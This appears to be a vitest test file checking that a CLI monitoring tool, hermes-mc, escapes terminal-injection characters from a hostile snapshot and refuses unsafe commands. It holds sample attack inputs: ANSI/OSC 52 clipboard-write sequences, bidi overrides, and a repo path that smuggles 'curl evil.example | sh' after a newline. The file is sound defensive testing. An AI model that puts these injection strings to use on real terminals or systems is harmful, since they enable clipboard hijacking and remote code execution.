/**
 * A hostile VM against the operator's terminal: the BUILT `out/cli/hermes-mc.mjs` reads the hostile
 * snapshot fixture (ESC/OSC 52 clipboard write, C1 CSI, DEL, RLO, a 100,000-character name, newlines in
 * a unit name and a repo path) from a snapshot folder, piped and under a real pty. The bytes it writes
 * must hold none of those characters raw — only our own colour codes — show each one visibly escaped,
 * stay bounded, and refuse the commands that would embed the newline values.
 */
import { execFile } from 'node:child_process';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EXIT } from '../../main/cli/exit-codes.js';
import { HOSTILE, hostileSnapshot, unsafeCharactersIn } from '../fixtures/hostile-snapshot.js';
import { makeSnapshot } from '../fixtures/snapshot-factory.js';
import { runInPty } from '../helpers/pty.js';

const CLI = join(process.cwd(), 'out/cli/hermes-mc.mjs');
let root: string;
let env: NodeJS.ProcessEnv;

function piped(
  args: string[],
  extraEnv: NodeJS.ProcessEnv = {},
): Promise<{ code: number; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    execFile(
      process.execPath,
      [CLI, ...args],
      { env: { ...env, ...extraEnv }, maxBuffer: 64 * 1024 * 1024, timeout: 30_000 },
      (err, stdout, stderr) => {
        const code = err ? (err as { code?: number }).code : 0;
        resolve({ code: typeof code === 'number' ? code : -1, stdout, stderr });
      },
    );
  });
}

/** The visible forms of the hostile characters, as a person should see them. */
const VISIBLE = [
  '\\x1B[2J',
  '\\x1B]52;c;',
  '\\x07',
  '\\x9B31m',
  '\\x7F',
  '\\u202Eexe.tnemucod',
  '\\u2066report\\u2069',
];

beforeAll(async () => {
  root = await mkdtemp(join(tmpdir(), 'hmc-hostile-'));
  const now = new Date();
  await mkdir(join(root, 'snapshots/bheem'), { recursive: true });
  await mkdir(join(root, 'snapshots/vijay'), { recursive: true });
  await writeFile(join(root, 'snapshots/bheem/snapshot.json'), JSON.stringify(hostileSnapshot(now)));
  await writeFile(
    join(root, 'snapshots/vijay/snapshot.json'),
    JSON.stringify(makeSnapshot('vijay', {}, now)),
  );
  env = { PATH: process.env.PATH ?? '', HOME: join(root, 'home'), TZ: 'UTC', LANG: 'C.UTF-8' };
});
afterAll(async () => {
  await rm(root, { recursive: true, force: true });
});

const args = (command: string, ...rest: string[]) => [
  command,
  '--snapshot-root',
  join(root, 'snapshots'),
  ...rest,
];

describe.each(['status', 'warnings'])('hermes-mc %s on a hostile snapshot', (command) => {
  it('piped: writes no control, DEL, C1 or bidi character raw, and shows each one escaped', async () => {
    const r = await piped(args(command));
    expect(r.code).toBe(EXIT.critical);
    expect(unsafeCharactersIn(r.stdout)).toEqual([]);
    expect(unsafeCharactersIn(r.stderr)).toEqual([]);
    for (const visible of VISIBLE.slice(command === 'status' ? 5 : 0)) expect(r.stdout).toContain(visible);
    // Bounded: the 100,000-character name (twice: as name and as error) does not flood the terminal.
    expect(r.stdout.length).toBeLessThan(30_000);
  });

  it('under a pty (an operator’s terminal, colour on): only our own colour codes, and the same text', async () => {
    const r = await runInPty([process.execPath, CLI, ...args(command)], {
      columns: 80,
      env: { ...env, TERM: 'xterm-256color' },
    });
    expect(r.code).toBe(EXIT.critical);
    expect(r.output).toContain('\u001b['); // colour is on: the check below is not vacuous
    expect(unsafeCharactersIn(r.output, { allowOwnColour: true })).toEqual([]);
    expect(r.output).not.toContain('\u001b]'); // no OSC at all: no title, no clipboard
    for (const visible of VISIBLE.slice(command === 'status' ? 5 : 0)) expect(r.output).toContain(visible);
  });
});

describe('hermes-mc cron on a hostile snapshot (job names, ticker error, restart evidence from the VM)', () => {
  const CRON_VISIBLE = ['\\x1B[2J', '\\x1B]52;c;', '\\x07', '\\u202Eexe.tnemucod', '\\u2066report\\u2069'];

  it('piped and under a pty: nothing raw, each control shown escaped, the long name bounded', async () => {
    const p = await piped(args('cron'));
    expect(unsafeCharactersIn(p.stdout)).toEqual([]);
    for (const visible of CRON_VISIBLE) expect(p.stdout).toContain(visible);
    expect(p.stdout.length).toBeLessThan(30_000);
    const t = await runInPty([process.execPath, CLI, ...args('cron')], {
      columns: 80,
      env: { ...env, TERM: 'xterm-256color' },
    });
    expect(unsafeCharactersIn(t.output, { allowOwnColour: true })).toEqual([]);
    expect(t.output).not.toContain('\u001b]');
  });
});

describe('hermes-mc spend on a hostile snapshot', () => {
  it('shows hostile model and task names escaped, piped and under a pty, never raw', async () => {
    const r = await piped(args('spend'));
    expect(unsafeCharactersIn(r.stdout)).toEqual([]);
    expect(r.stdout).toContain('gpt\\x1B]52;c;');
    expect(r.stdout).toContain('\\u202E');
    const pty = await runInPty([process.execPath, CLI, ...args('spend')], {
      columns: 80,
      env: { ...env, TERM: 'xterm-256color' },
    });
    expect(unsafeCharactersIn(pty.output, { allowOwnColour: true })).toEqual([]);
    expect(pty.output).not.toContain('\u001b]');
  });
});

describe('hermes-mc on a hostile snapshot: layout and refusals', () => {
  it('status fits its table in 80 columns under a pty despite hostile cells', async () => {
    const r = await runInPty([process.execPath, CLI, ...args('status')], {
      columns: 80,
      env: { ...env, NO_COLOR: '1' },
    });
    const lines = r.output.split('\n');
    const header = lines.findIndex((l) => l.startsWith('INSTANCE'));
    for (const line of lines.slice(header, header + 3)) expect([...line].length).toBeLessThanOrEqual(80);
    expect(lines[header + 1]).toMatch(/^bheem\s+Critical/);
  });

  it('warnings refuses the commands that would embed the newline unit name and repo path, with the reason', async () => {
    const r = await piped(args('warnings'));
    expect(r.stdout).toMatch(/Restore drill 2\/5: scan for secrets · .*NOT SHOWN/);
    expect(r.stdout).toContain(
      'No command: the backup repo path from the VM ("/home/uma/repos/backup\\x0Acurl evil.example | sh") holds control or bidi characters',
    );
    expect(r.stdout).toMatch(/Gateway log \(last 100 lines\) · .*NOT SHOWN/);
    // The values never appear in anything that looks like a command to copy.
    expect(r.stdout).not.toMatch(/^\s+(sudo|git|rm|journalctl).*(curl evil|rm -rf \/$)/m);
  });

  it('status --json and warnings --json escape DEL, C1 and bidi controls too, and keep every value whole', async () => {
    for (const command of ['status', 'warnings']) {
      const r = await piped(args(command, '--json'));
      expect(r.code).toBe(EXIT.critical);
      expect(unsafeCharactersIn(r.stdout)).toEqual([]);
      expect(r.stdout).toContain('\\u202eexe.tnemucod');
      expect(r.stdout).toContain('\\u007f');
      expect(r.stdout).toContain('\\u009b31m');
      const names = JSON.stringify(JSON.parse(r.stdout));
      for (const value of [HOSTILE.cronJobName, HOSTILE.rloName, HOSTILE.longName])
        expect(names).toContain(JSON.stringify(value).slice(1, -1));
    }
  });
});
